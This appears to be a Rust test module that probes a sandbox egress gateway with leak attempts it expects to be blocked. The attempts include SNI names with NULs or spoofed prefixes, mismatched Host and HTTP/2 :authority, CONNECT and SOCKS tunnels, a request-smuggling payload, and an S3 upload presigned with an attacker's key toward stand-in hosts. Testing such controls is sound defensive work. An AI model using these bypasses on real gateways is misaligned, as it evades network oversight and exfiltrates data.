//! Tricks on the gateway: to be connected to one host while naming another.
//!
//! `allowed.example` is allowed and leads to `internet::ALLOWED`; AWS's names lead to `internet::AWS`. Whatever
//! reaches another address, or either of these because of a trick, is a leak.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::tls::{hello, hello_with, records, say, server_name};
use super::{Attempt, Outcome, Stop, Technique, technique};

const GATEWAY: &str = "gateway";
const AWS: &str = "s3.us-east-1.amazonaws.com";
/// A value of 64 KiB and more in one ClientHello.
const LARGE: usize = 70_000;

pub(super) const TABLE: &[Technique] = &[
    technique("http-plain", "HTTP without TLS", |a| {
        plain(a, 80, &format!("GET /{} HTTP/1.1\r\nHost: evil.example\r\n\r\n", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("http-plain-allowed", "HTTP without TLS, with an allowed Host, to another address", |a| {
        plain(a, 80, &format!("GET /{} HTTP/1.1\r\nHost: allowed.example\r\n\r\n", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("http-connect", "CONNECT", |a| {
        plain(a, 443, &format!("CONNECT {0}.example:443 HTTP/1.1\r\nHost: {0}.example\r\n\r\n", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("http-absolute", "a request in absolute form", |a| {
        plain(a, 80, &format!("GET http://{}.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("http-address", "an address as Host", |a| {
        plain(a, 80, &format!("GET /{} HTTP/1.1\r\nHost: {}\r\n\r\n", a.marker(), a.v4(80).ip()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("http-preface", "HTTP/2 without TLS", |a| {
        plain(a, 80, &format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{}", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("socks", "SOCKS5, with a NUL within the host's name", |a| {
        let name = format!("{}.example\0.allowed.example", a.marker());
        let mut request = vec![5, 1, 0, 5, 1, 0, 3, name.len() as u8];
        request.extend(name.bytes());
        request.extend([1, 187]);
        bytes(a.v4(1080), &request)
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-denied", "the name of a host that is not allowed", |a| tls(a, &format!("{}.example", a.marker())))
        .closed(GATEWAY, GATEWAY),
    technique("tls-below-allowed", "a name below an allowed one", |a| {
        tls(a, &format!("{}.allowed.example", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-below-aws", "a bucket's name is the mark, nothing is asked of it", |a| {
        tls(a, &format!("{}.evil.amazonaws.com.example", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-nul", "a name with a NUL before an allowed one", |a| {
        tls(a, &format!("{}.example\0.allowed.example", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-nul-after", "an allowed name with a NUL behind it", |a| {
        tls(a, &format!("allowed.example\0.{}.example", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-user", "a name with a user before it", |a| {
        tls(a, &format!("allowed.example@{}.example", a.marker()))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-space", "a name with white space", |a| tls(a, &format!("allowed.example {}", a.marker())))
        .closed(GATEWAY, GATEWAY),
    technique("tls-address", "an address as the name", |a| {
        let mut hello = hello(Some(&a.v4(443).ip().to_string()));
        hello.extend(a.marker().bytes());
        bytes(a.v4(443), &records(&hello, 16_000))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-nameless", "no name", |a| {
        let mut message = records(&hello(None), 16_000);
        message.extend(a.marker().bytes());
        bytes(a.v4(443), &message)
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-two-names", "an allowed name and another in one extension", |a| {
        let other = format!("{}.example", a.marker());
        let names = ["allowed.example", other.as_str()];
        let mut list = Vec::new();
        for name in names {
            list.push(0);
            list.extend((name.len() as u16).to_be_bytes());
            list.extend(name.bytes());
        }
        let mut extension = vec![0, 0];
        extension.extend((list.len() as u16 + 2).to_be_bytes());
        extension.extend((list.len() as u16).to_be_bytes());
        extension.extend(list);
        bytes(a.v4(443), &records(&hello_with(&extension), 16_000))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-two-extensions", "two extensions with names", |a| {
        let mut extensions = server_name("allowed.example");
        extensions.extend(server_name(&format!("{}.example", a.marker())));
        bytes(a.v4(443), &records(&hello_with(&extensions), 16_000))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-encrypted", "an allowed name outside, an encrypted ClientHello (ECH) within", |a| {
        let mut extensions = server_name("allowed.example");
        let inner = a.marker().repeat(4);
        // Outer, HKDF-SHA256 with AES-128-GCM, a configuration, a key; then what is encrypted.
        let mut ech = vec![0, 0, 1, 0, 1, 7, 0, 32];
        ech.extend([5; 32]);
        ech.extend((inner.len() as u16).to_be_bytes());
        ech.extend(inner.bytes());
        extensions.extend([0xfe, 0x0d]);
        extensions.extend((ech.len() as u16).to_be_bytes());
        extensions.extend(ech);
        bytes(a.v4(443), &records(&hello_with(&extensions), 16_000))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-pieces", "a ClientHello in records of seven bytes", |a| {
        let hello = hello(Some(&format!("{}.example", a.marker())));
        bytes(a.v4(443), &records(&hello, 7))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-large", "a ClientHello of 70,000 bytes", |a| {
        let mut extensions = server_name("allowed.example");
        for _ in 0..LARGE / 35_000 {
            extensions.extend([0xaa, 0xaa, 0x75, 0x30]);
            extensions.extend(a.marker().bytes().cycle().take(30_000));
        }
        bytes(a.v4(443), &records(&hello_with(&extensions), 16_000))
    })
    .closed(GATEWAY, GATEWAY),
    technique("tls-other-port", "an allowed name at a port that is not allowed", |a| {
        let mut message = records(&hello(Some("allowed.example")), 16_000);
        message.extend(a.marker().bytes());
        bytes(a.v4(853), &message)
    })
    .closed(GATEWAY, GATEWAY),
    technique("early-data", "bytes before the ClientHello", |a| {
        let mut message = a.marker().into_bytes();
        message.extend(records(&hello(Some("allowed.example")), 16_000));
        bytes(a.v4(443), &message)
    })
    .closed(GATEWAY, GATEWAY),
    technique("host-other", "an AWS name in TLS, another as Host", |a| {
        within(a, b"http/1.1", &format!("GET / HTTP/1.1\r\nHost: {}.example\r\n\r\n", a.marker()))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("host-absolute", "an AWS name in TLS, a request in absolute form to another host", |a| {
        within(a, b"http/1.1", &format!("GET https://{}.example/ HTTP/1.1\r\nHost: {AWS}\r\n\r\n", a.marker()))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("host-two", "an AWS name in TLS, two Host fields", |a| {
        within(a, b"http/1.1", &format!("GET / HTTP/1.1\r\nHost: {AWS}\r\nHost: {}.example\r\n\r\n", a.marker()))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("host-connect", "an AWS name in TLS, CONNECT within", |a| {
        within(a, b"http/1.1", &format!("CONNECT {0}.example:443 HTTP/1.1\r\nHost: {0}.example:443\r\n\r\n", a.marker()))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("host-upgrade", "an AWS name in TLS, an upgrade to a tunnel", |a| {
        within(a, b"http/1.1", &format!(
            "GET /{} HTTP/1.1\r\nHost: {AWS}\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", a.marker()
        ))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("smuggle-lengths", "two lengths, a request hidden in the body", |a| {
        let hidden = format!("GET /{} HTTP/1.1\r\nHost: {AWS}\r\n\r\n", a.marker());
        within(a, b"http/1.1", &format!(
            "POST / HTTP/1.1\r\nHost: {AWS}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
            hidden.len() + 5
        ))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("unsigned", "a request to AWS that is not signed", |a| {
        within(a, b"http/1.1", &format!("PUT /bucket/{} HTTP/1.1\r\nHost: {AWS}\r\nContent-Length: 0\r\n\r\n", a.marker()))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("foreign-key", "a request to AWS with the attacker's own access key, presigned", |a| {
        within(a, b"http/1.1", &format!(
            "PUT /bucket/{}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAEVILEVILEVILEVIL%2F20260101%2F\
             us-east-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=604800&X-Amz-SignedHeaders=host\
             &X-Amz-Signature=00 HTTP/1.1\r\nHost: {AWS}\r\nContent-Length: 0\r\n\r\n", a.marker()
        ))
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
    technique("authority-other", "HTTP/2 with another :authority than the name in TLS", |a| {
        let name = format!("{}.example", a.marker());
        // GET, https, /, and a literal :authority (RFC 7541).
        let mut block = vec![0x82, 0x87, 0x84, 0x01, name.len() as u8];
        block.extend(name.bytes());
        let mut request = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0".to_vec();
        request.extend([block.len() as u8, 1, 5, 0, 0, 0, 1]);
        request.extend(block);
        within_bytes(a, b"h2", &request)
    })
    .alone()
    .closed(GATEWAY, GATEWAY),
];

/// What policy allows: the name resolved, its port 443, a ClientHello.
pub(super) fn allowed(attempt: &Attempt<'_>) -> Outcome {
    use std::net::ToSocketAddrs;

    let name = "allowed.example:443";
    let mut found = name.to_socket_addrs();
    // A slow guest's resolver library gives up on an answer that comes.
    for _ in 0..3 {
        if found.is_err() {
            found = name.to_socket_addrs();
        }
    }
    let to = found
        .map_err(Stop::io("getaddrinfo"))?
        .next()
        .ok_or_else(|| Stop::Nothing("no address".to_owned()))?;
    let _ = attempt;
    bytes(to, &records(&hello(Some("allowed.example")), 16_000))
}

fn plain(attempt: &Attempt<'_>, port: u16, request: &str) -> Outcome {
    bytes(attempt.v4(port), request.as_bytes())
}

fn tls(attempt: &Attempt<'_>, name: &str) -> Outcome {
    bytes(attempt.v4(443), &records(&hello(Some(name)), 16_000))
}

/// Connects, sends, and reads the start of the answer.
fn bytes(to: SocketAddr, request: &[u8]) -> Outcome {
    let mut stream = opened(to)?;
    stream.write_all(request).map_err(Stop::io("write"))?;
    let _ = stream.set_read_timeout(Some(Duration::from_millis(150)));
    let mut answer = [0; 32];
    match stream.read(&mut answer) {
        Ok(0) => Ok("sent; the peer closed".to_owned()),
        Ok(size) => Ok(format!(
            "sent; answered {:?}",
            String::from_utf8_lossy(&answer[..size.min(12)])
        )),
        Err(error) => Ok(format!("sent; {}", error.kind())),
    }
}

fn opened(to: SocketAddr) -> Result<TcpStream, Stop> {
    let patience = Duration::from_millis(500);
    let stream = TcpStream::connect_timeout(&to, patience).map_err(Stop::io("connect"))?;
    let _ = stream.set_read_timeout(Some(patience));
    let _ = stream.set_write_timeout(Some(patience));
    Ok(stream)
}

fn within(attempt: &Attempt<'_>, alpn: &[u8], request: &str) -> Outcome {
    within_bytes(attempt, alpn, request.as_bytes())
}

/// Says this within TLS that guard terminates.
fn within_bytes(attempt: &Attempt<'_>, alpn: &[u8], request: &[u8]) -> Outcome {
    let mut stream = opened(attempt.v4(443))?;
    say(&mut stream, AWS, alpn, request).map(|answer| format!("answered {answer:?}"))
}
